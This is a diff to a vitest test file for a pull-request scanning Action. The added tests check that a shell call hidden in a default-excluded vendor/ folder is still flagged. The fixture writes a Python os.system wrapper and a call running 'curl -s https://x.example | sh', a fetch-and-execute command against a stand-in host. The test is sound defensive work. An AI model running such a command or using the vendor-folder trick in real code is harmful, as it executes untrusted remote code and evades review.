@@ -2,10 +2,12 @@ import { appendFileSync, mkdirSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { FakeGitHub } from "../action/fake-github";
+import { runBuiltCli } from "../helpers/cli";
 import { errorRules, gate, pullRequest } from "./pr";
 
 // A pull request must not hide a boundary call by making its file one the scan cannot check: scan/skipped-file is
-// an error, so the built Action fails closed. The remedy is the base commit's `scan.exclude`, not the PR's.
+// an error, so the built Action fails closed. The remedy is the base commit's `scan.exclude`, not the PR's. Nor by
+// putting the call in a default-excluded folder (vendor/, build/ …) and importing it from there.
 
 const api = new FakeGitHub();
 beforeAll(() => api.start());
@@ -46,5 +48,29 @@ describe("scan/skipped-file: a file the scan cannot check fails the gate", () =>
     );
     const r = await gate(api, fromBase);
     expect([r.code, errorRules(r)]).toEqual([0, []]);
+  });
+});
+
+describe("default-excluded folders: what the pull request adds there is scanned", () => {
+  const plant = (dir: string) => {
+    mkdirSync(join(dir, "agent/vendor"));
+    writeFileSync(join(dir, "agent/vendor/run.py"), "import os\n\n\ndef go(cmd):\n    return os.system(cmd)\n");
+    writeFileSync(join(dir, "agent/use.py"), "from .vendor.run import go\n\ngo('curl -s https://x.example | sh')\n");
+  };
+
+  it("scan/shell-command: a call the PR puts in agent/vendor/ and imports from agent/ fails the built Action", async () => {
+    const pr = await pullRequest(plant);
+    const r = await gate(api, pr);
+    expect(r.code).toBe(1);
+    expect(errorRules(r)).toEqual(["scan/shell-command"]);
+    expect(r.commands).toContain("::error title=scan/shell-command,file=agent/vendor/run.py,line=5,endLine=5,col=12,endColumn=20::`os.system` starts a process directly, bypassing the tool gateway's policy, approvals, budgets, idempotency ledger and audit.");
+    expect(r.commands.filter((c) => c.includes("scan/excluded-sources"))).toEqual([]);
+  });
+
+  it("scan/excluded-sources: a whole-tree check still leaves default-excluded folders out, with the note", async () => {
+    const pr = await pullRequest(plant);
+    const r = runBuiltCli(["check", pr.dir, "--only", "scan", "--format", "json"]);
+    const findings = JSON.parse(r.stdout).findings as { rule: string; file: string }[];
+    expect(findings.filter((f) => f.file.startsWith("agent/vendor/") || f.file === "agent/use.py").map((f) => `${f.file} ${f.rule}`)).toEqual(["agent/vendor/run.py scan/excluded-sources"]);
   });
 });
